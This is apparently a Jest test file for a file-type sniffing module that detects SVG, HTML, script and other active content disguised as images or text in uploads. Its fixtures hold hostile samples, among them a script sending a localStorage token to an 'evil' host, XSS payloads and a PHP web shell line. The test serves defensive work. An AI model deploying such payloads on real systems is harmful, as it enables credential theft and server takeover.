import { contentMatches, servesInline, sniff, typeOfReceived } from './file-type';

const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
const JPEG = Buffer.from('ffd8ffe000104a464946', 'hex');
const PDF = Buffer.from('%PDF-1.7\n');
const OGG = Buffer.from('OggS\0\u0002');
const MP4 = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypmp42')]);
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
const SVG_WITH_PROLOG = Buffer.from(
  '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">\n<svg version="1.1"><script>top.x=1</script></svg>',
);
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("//evil/"+localStorage.token)</script></body></html>');

describe('files are typed by their bytes', () => {
  it('tells common media by their first bytes', () => {
    expect([PNG, JPEG, PDF, OGG, MP4].map(sniff)).toEqual(['png', 'jpeg', 'pdf', 'ogg', 'iso-bmff']);
    expect(sniff(Buffer.from('BEGIN:VCARD\nFN:Ana\nEND:VCARD'))).toBe('text');
    expect(sniff(Buffer.from('Olá, segue o relatório de ação.\nAté amanhã'))).toBe('text');
  });

  it('an SVG is active content, with or without an XML prolog, a BOM, comments or a doctype', () => {
    expect(sniff(SVG)).toBe('svg');
    expect(sniff(SVG_WITH_PROLOG)).toBe('svg');
    expect(sniff(Buffer.from('   \n<SVG width="1"/>'))).toBe('svg');
    expect(sniff(Buffer.from('<?xml version="1.0"?><foo><svg xmlns="http://www.w3.org/2000/svg"/></foo>'))).toBe('svg');
  });

  it('HTML is active content, by its doctype, its first tag, or a script tag anywhere', () => {
    expect(sniff(HTML)).toBe('html');
    expect(sniff(Buffer.from('<html><p>oi</p></html>'))).toBe('html');
    expect(sniff(Buffer.from('  <body onload=alert(1)>'))).toBe('html');
    expect(sniff(Buffer.from('<script>alert(document.domain)</script>'))).toBe('html');
    expect(sniff(Buffer.from('just some notes\nand then <script src=//evil/x.js></script>'))).toBe('html');
    expect(sniff(Buffer.from('<!-- x --><iframe src=javascript:alert(1)>'))).toBe('html');
    expect(sniff(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<html>', 'utf16le')]))).toBe('html');
  });

  it('XML and JavaScript are active content', () => {
    expect(sniff(Buffer.from('<?xml version="1.0"?><note><to>Ana</to></note>'))).toBe('xml');
    expect(sniff(Buffer.from('<note><to>Ana</to></note>'))).toBe('xml');
    expect(sniff(Buffer.from('function f() { return document.cookie }'))).toBe('javascript');
    expect(sniff(Buffer.from('(function(){ window.x = 1 })()'))).toBe('javascript');
    expect(sniff(Buffer.from('const token = localStorage.getItem("token");'))).toBe('javascript');
    expect(sniff(Buffer.from('"use strict";\nvar a = 1'))).toBe('javascript');
    expect(sniff(Buffer.from('import the data on monday, please'))).toBe('text');
  });

  it('accepts a file whose bytes are of the type it claims, refuses a disguised or unlisted one', () => {
    expect(contentMatches('image/png', PNG)).toBe(true);
    expect(contentMatches('audio/ogg; codecs=opus', OGG)).toBe(true);
    expect(contentMatches('image/png', JPEG)).toBe(false);
    expect(contentMatches('image/png', SVG)).toBe(false);
    expect(contentMatches('application/pdf', HTML)).toBe(false);
    expect(contentMatches('text/plain', HTML)).toBe(false);
    expect(contentMatches('text/plain', Buffer.from('<script>alert(1)</script>'))).toBe(false);
    expect(contentMatches('image/jpeg', Buffer.from('<?php system($_GET[1]); ?>'))).toBe(false);
    expect(contentMatches('text/html', Buffer.from('<script>'))).toBe(false);
  });

  it('a received file is stored as what its bytes are: an "image" holding SVG or HTML is not an image', () => {
    expect(typeOfReceived('image/jpeg', SVG)).toBe('image/svg+xml');
    expect(typeOfReceived('image/png', HTML)).toBe('text/html');
    expect(typeOfReceived('image/jpeg', PNG)).toBe('image/png');
    expect(typeOfReceived('audio/ogg; codecs=opus', OGG)).toBe('audio/ogg; codecs=opus');
    expect(typeOfReceived('application/x-rar', Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x00]))).toBe('application/octet-stream');
    expect(typeOfReceived('text/plain', Buffer.from('<script>x</script>'))).toBe('text/html');
  });

  it('only inert media confirmed by their bytes are served inline', () => {
    expect(servesInline('image/png', PNG)).toBe(true);
    expect(servesInline('application/pdf', PDF)).toBe(true);
    expect(servesInline('image/png', SVG)).toBe(false);
    expect(servesInline('image/svg+xml', SVG)).toBe(false);
    expect(servesInline('text/plain', Buffer.from('hello'))).toBe(false);
    expect(servesInline('text/html', HTML)).toBe(false);
  });
});
